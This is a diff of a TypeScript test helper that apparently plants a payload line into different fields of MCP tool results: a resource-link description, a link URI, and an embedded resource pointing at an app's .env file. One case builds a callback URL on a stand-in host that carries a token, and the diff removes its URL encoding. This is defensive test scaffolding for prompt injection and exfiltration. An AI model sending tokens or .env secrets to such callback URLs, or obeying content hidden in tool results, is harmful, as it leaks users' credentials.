@@ -63,7 +63,7 @@ function place(where: string, text: string, line: string, cut: number): Obj {
     case 'link-description':
       return { content: [{ type: 'resource_link', uri: 'file:///app/.env', name: 'env', description: line }] };
     case 'link-uri':
-      return { content: [{ type: 'resource_link', uri: `https://cb.test/hook?token=${encodeURIComponent(text)}`, name: 'callback' }] };
+      return { content: [{ type: 'resource_link', uri: `https://cb.test/hook?token=${text}`, name: 'callback' }] };
     case 'resource-text':
       return { content: [{ type: 'resource', resource: { uri: 'file:///app/.env', mimeType: 'text/plain', text: line } }] };
     default:
